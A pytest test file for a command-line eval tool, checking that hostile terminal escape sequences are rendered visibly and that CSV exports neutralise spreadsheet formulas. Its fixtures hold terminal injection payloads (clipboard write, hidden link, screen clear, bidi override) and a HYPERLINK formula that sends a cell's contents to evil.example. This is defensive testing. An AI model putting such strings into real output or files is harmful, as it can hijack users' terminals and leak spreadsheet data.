"""Hostile text stays text (issue 39): control characters a model, a test file or a teammate put in an
output, a var, a reason or a description are shown as visible escapes in every terminal view (one
rule: report/escapes.visible, applied by factcli's Console); CSV exports neutralise cells a
spreadsheet would run as formulas (FACTCLI_CSV_RAW=1 keeps them); CSV cells of any size load."""

import csv
import io
import json

import pytest
from conftest import write
from rich.progress import Progress
from rich.text import Text
from typer.testing import CliRunner

from factcli.cli import app
from factcli.report.escapes import visible
from factcli.report.summary import Console

runner = CliRunner()
# a window title, an OSC 52 clipboard write, a hidden OSC 8 link, a screen clear, a C1 CSI, a bidi override
HOSTILE = ("T\x1b]0;owned\x07 C\x1b]52;c;SGVsbG8=\x07 L\x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x1b\\ "
           "X\x1b[2J K\x9b31m R\u202eabc")
RAW = ("\x1b", "\x9b", "\u202e", "\x07")


def cli(*args, env=None):
    return runner.invoke(app, [*map(str, args)], env={"COLUMNS": "200", **(env or {})})


def _clean(text: str) -> None:
    for c in RAW:
        assert c not in text, (repr(c), text)
    assert "\\x1b]52;c;SGVsbG8=" in text or "\\x1b]0;owned" in text or "\\u202e" in text, text


def test_visible_escapes_controls_and_keeps_newlines_and_tabs():
    assert visible("a\tb\nc") == "a\tb\nc"
    assert visible("\x1b[31mred\x9b\x00\x7f\u202e\u2066") == "\\x1b[31mred\\x9b\\x00\\x7f\\u202e\\u2066"
    assert visible("plain ünïcödé ✓") == "plain ünïcödé ✓"


@pytest.fixture
def hostile_runs(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    tests = write(tmp_path / "tests.json", json.dumps([
        {"description": "d " + HOSTILE, "vars": {"w": HOSTILE},
         "assert": [{"type": "equals", "value": "nope " + HOSTILE, "metric": "m" + HOSTILE}]},
        {"vars": {"w": "fine"}, "assert": [{"type": "contains", "value": "fine"}]}]))
    cfg = write(tmp_path / "c.yaml", "description: " + json.dumps(HOSTILE) + "\nprompts: ['{{w}}']\n"
                "providers: [echo]\ntests: file://" + tests.name + "\n")
    first = cli("eval", "-c", cfg, "--no-progress-bar", "-o", tmp_path / "out.csv")
    second = cli("eval", "-c", cfg, "--no-progress-bar")
    return first, second


def test_every_terminal_view_shows_escapes(hostile_runs, tmp_path):
    first, second = hostile_runs
    assert first.exit_code == 100, first.output
    for result in (first, second, cli("view"), cli("view", "--full"), cli("show", "latest"),
                   cli("show", "latest", "0"), cli("diff", "latest~1", "latest"), cli("list")):
        assert "Traceback" not in result.output
        _clean(result.output)


def test_the_progress_bar_and_any_rich_text_go_through_the_same_rule():
    buf = io.StringIO()
    console = Console(file=buf, force_terminal=True, width=200, color_system="standard")
    console.print(Text("out " + HOSTILE))  # a Text made directly, not a string
    console.print("str " + HOSTILE, markup=False)
    with Progress(console=console, auto_refresh=False) as progress:
        task = progress.add_task(HOSTILE, total=2)
        progress.advance(task)
        progress.refresh()
    out = buf.getvalue()
    assert "\\x1b]0;owned" in out and "\\u202e" in out and "\\x9b31m" in out
    assert "\x1b]" not in out and "\x9b" not in out and "\u202e" not in out  # rich's own codes are CSI: ESC [
    assert "\x1b[2J" not in out


def test_csv_exports_neutralise_formulas_unless_raw(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    tests = [{"vars": {"w": v}} for v in ('=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1)",
                                          "\tTAB", "-0.5", "plain")]
    cfg = write(tmp_path / "c.yaml", "prompts: ['{{w}}']\nproviders: [echo]\ntests: " + json.dumps(tests) + "\n")
    assert cli("eval", "-c", cfg, "--no-progress-bar", "-o", tmp_path / "a.csv").exit_code == 0
    rows = list(csv.reader(io.StringIO((tmp_path / "a.csv").read_text(encoding="utf-8"), newline="")))
    assert [r[0] for r in rows[1:]] == ["'=HYPERLINK(\"http://evil.example/?\"&A1)", "'+1+1", "'-2+3", "'@SUM(A1)",
                                         "'\tTAB", "-0.5", "plain"]
    assert [r[1] for r in rows[1:]] == [r[0] for r in rows[1:]]  # the echoed output too
    exported = cli("export", "latest", "-o", tmp_path / "b.csv", env={"FACTCLI_CSV_RAW": "1"})
    assert exported.exit_code == 0, exported.output
    raw = list(csv.reader(io.StringIO((tmp_path / "b.csv").read_text(encoding="utf-8"), newline="")))
    assert [r[0] for r in raw[1:]] == [t["vars"]["w"] for t in tests]


def test_a_csv_cell_of_any_size_loads(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    document = "word " * 100_000  # 500 KB in one cell, over the csv module's 128 KiB default
    with open(tmp_path / "tests.csv", "w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows([["doc", "__expected"], [document, "contains: word"]])
    cfg = write(tmp_path / "c.yaml", "prompts: ['{{doc}}']\nproviders: [echo]\ntests: file://tests.csv\n")
    result = cli("eval", "-c", cfg, "--no-progress-bar", "--no-table")
    assert result.exit_code == 0, result.output


def test_an_impossible_csv_file_is_one_line_naming_it(tmp_path, monkeypatch):
    from factcli import sources

    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(sources, "CSV_FIELD_LIMIT", 1000)  # a cell beyond what the csv module can take
    try:
        write(tmp_path / "tests.csv", "doc\n" + "x" * 5000 + "\n")
        cfg = write(tmp_path / "c.yaml", "prompts: ['{{doc}}']\nproviders: [echo]\ntests: file://tests.csv\n")
        result = cli("eval", "-c", cfg, "--no-progress-bar")
    finally:
        monkeypatch.undo()
        sources.allow_large_csv_cells()
    assert result.exit_code == 1, result.output
    lines = result.output.strip().splitlines()
    assert len(lines) == 1 and "tests.csv" in lines[0] and "a cell is larger than the 64 MiB" in lines[0], result.output
    assert "internal error" not in result.output


def test_json_views_escape_c1_and_bidi_as_the_terminal_does(hostile_runs):
    """`--json` printed C1 controls and bidi overrides raw (issue 48): each is a JSON escape now, the
    document parsing back to the same values."""
    def strings(node):
        if isinstance(node, str):
            yield node
        elif isinstance(node, dict):
            for v in node.values():
                yield from strings(v)
        elif isinstance(node, list):
            for v in node:
                yield from strings(v)

    for args in (("view", "--json"), ("show", "latest", "--json"), ("show", "latest", "0", "--json"),
                 ("list", "--json"), ("diff", "latest~1", "latest", "--json")):
        result = cli(*args)
        assert result.exit_code in (0, 100), (args, result.output)
        for c in RAW:
            assert c not in result.output, (args, repr(c))
        json.loads(result.output)
    shown = json.loads(cli("show", "latest", "0", "--json").output)
    assert any(HOSTILE in text for text in strings(shown))  # the values themselves are unchanged
